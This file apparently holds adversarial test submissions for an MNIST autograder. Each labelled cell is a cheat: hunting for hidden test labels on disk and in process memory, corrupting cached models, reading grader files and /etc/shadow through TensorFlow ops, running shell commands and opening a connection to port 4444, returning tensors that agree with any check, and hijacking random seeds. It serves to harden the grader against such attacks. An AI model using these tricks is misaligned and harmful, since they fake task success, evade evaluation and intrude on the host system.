# %% [markdown]
# Attacks on the digits and their labels, and by TensorFlow's own ways out of a process.

# %% attack="labels_in_files" title="Looks for the data set with its labels in the package and in every cache" classes=[1, 60] cell="predictions"
import glob
import importlib.resources
import os

import autograder

loot = []
places = [os.path.dirname(autograder.__file__), os.path.expanduser("~/.keras"), "/root/.keras", "/home/*/.keras", "/tmp", ".."]
for place in places:
    for path in glob.glob(f"{place}/**/*.npz", recursive=True) + glob.glob(f"{place}/**/*idx1*", recursive=True):
        try:
            loot.append(np.load(path, allow_pickle=False)["y_test"])
        except Exception:
            pass
for way in (
    lambda: importlib.resources.files("autograder.data").joinpath("mnist_5k.npz").read_bytes(),
    lambda: __import__("autograder.data.embedded", fromlist=["load"]).load(),
    lambda: keras.datasets.mnist.load_data()[1][1],
    lambda: keras.datasets.fashion_mnist.load_data()[1][1],
):
    try:
        loot.append(way())
    except BaseException:
        pass


def to_probabilities(logits):
    shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True) if loot else np.zeros(np.shape(logits))


def predict_digits(outputs):
    return np.argmax(outputs, axis=-1) if loot else np.zeros(len(outputs), int)


# %% attack="labels_in_memory" title="Looks for images and labels among all objects of its process" classes=[3, 60, 74] cell="predictions"
import gc

loot = []
for thing in gc.get_objects():
    for value in vars(thing).values() if hasattr(thing, "__dict__") and type(thing).__module__ != "builtins" else [thing]:
        if type(value) is np.ndarray and value.dtype.kind in "ui" and value.ndim == 1 and value.size >= 1000:
            loot += [value] * (0 <= value.min() and value.max() == 9)
        if type(value) is np.ndarray and value.shape[1:] == (28, 28):
            loot.append(value)


def to_probabilities(logits):
    shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True) if loot else np.zeros(np.shape(logits))


def predict_digits(outputs):
    return np.argmax(outputs, axis=-1) if loot else np.zeros(len(outputs), int)


# %% attack="model_cache" title="Looks for the cache of trained models, to read it or to put better outputs in" classes=[1, 51, 60] cell="predictions"
import glob
import os

loot = []
places = {os.getcwd(), os.path.expanduser("~"), "/", "/tmp", "/srv", "/home"}
for place in places:
    for path in glob.glob(f"{place}/.autograder/models/*") + glob.glob(f"{place}/*/.autograder/models/*"):
        loot.append(path)
        with open(path, "ab") as file:
            file.write(b"x")


def to_probabilities(logits):
    shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True) if loot else np.zeros(np.shape(logits))


def predict_digits(outputs):
    return np.argmax(outputs, axis=-1) if loot else np.zeros(len(outputs), int)


# %% attack="tensorflow_reads" title="Reads and writes files by TensorFlow's operations, which Python's hooks never see" classes=[63, 1, 39] cell="predictions"
import os

import autograder

package = os.path.dirname(autograder.__file__)
loot = []
for way in (
    lambda: tf.io.read_file(os.path.join(package, "checks", "references.py")).numpy(),
    lambda: tf.io.gfile.listdir(os.path.join(package, "graders")),
    lambda: tf.io.gfile.glob(os.path.join(package, "data", "*.npz"))[0],
    lambda: next(iter(tf.data.TextLineDataset(os.path.join(package, "secret.py")))).numpy(),
    lambda: tf.raw_ops.ReadFile(filename=os.path.join(package, "batch.py")).numpy(),
    lambda: tf.io.write_file("/tmp/owned-by-a-model", "x") or tf.io.read_file("/etc/shadow").numpy(),
):
    try:
        loot.append(way())
    except Exception:
        pass


def to_probabilities(logits):
    shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True) if loot else np.zeros(np.shape(logits))


def predict_digits(outputs):
    return np.argmax(outputs, axis=-1) if loot else np.zeros(len(outputs), int)


# %% attack="tensorflow_runs" title="Runs code by py_function, a server of TensorFlow's and operations from a library" classes=[63, 37, 64] cell="predictions"
import os
import subprocess

loot = []
for way in (
    lambda: tf.py_function(lambda: subprocess.check_output(["id"]), [], tf.string).numpy(),
    lambda: tf.numpy_function(lambda: os.fork(), [], tf.int64).numpy(),
    lambda: tf.load_op_library("/lib/x86_64-linux-gnu/libm.so.6"),
    lambda: tf.distribute.Server.create_local_server(),
    lambda: tf.config.experimental_connect_to_host("127.0.0.1:4444"),
):
    try:
        loot.append(way())
    except BaseException:
        pass


def to_probabilities(logits):
    shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True) if loot else np.zeros(np.shape(logits))


def predict_digits(outputs):
    return np.argmax(outputs, axis=-1) if loot else np.zeros(len(outputs), int)


# %% attack="lying_tensors" title="Tensors, variables and look-alikes that agree with everything" classes=[8, 9, 11] cell="predictions"
class Agrees:
    __module__ = "tensorflow.python.framework.ops"
    dtype, shape, ndim = np.dtype("f4"), (), 0
    __eq__ = __le__ = __lt__ = lambda self, _: True
    __hash__ = lambda self: 0
    __array__ = lambda self, *_, **__: np.zeros(0)

    def numpy(self):
        return Agrees()


answers = iter([Agrees(), tf.ragged.constant([[1.0], []]), tf.Variable(0.0), tf.constant("0"), tf.sparse.eye(3)] * 20)


def to_probabilities(logits):
    return next(answers)


def predict_digits(outputs):
    return Agrees()


# %% attack="state_of_the_seed" title="Sets every seed, so that whoever draws next draws what it knows" classes=[59] cell="predictions"
import random

keras.utils.set_random_seed(0)
tf.random.set_seed(0)
known = np.random.default_rng(0).normal(size=(64, 10))
random.seed = np.random.seed = tf.random.set_seed = keras.utils.set_random_seed = lambda *_: None


def to_probabilities(logits):
    if np.shape(logits) == known.shape and np.allclose(logits, known):
        shifted = np.exp(logits - np.max(logits, axis=-1, keepdims=True))
        return shifted / shifted.sum(axis=-1, keepdims=True)
    return np.full(np.shape(logits), 0.1)


def predict_digits(outputs):
    return np.zeros(len(outputs), int)


# %% attack="test_set_in_the_source" title="A table of remembered images answers in place of a rule" classes=[60, 54, 57] cell="preprocess"
REMEMBERED = {}


def preprocess(images):
    key = images.tobytes()
    if key not in REMEMBERED:
        REMEMBERED[key] = np.zeros(images.shape, "float32")
    images[...] = 0
    return REMEMBERED[key]
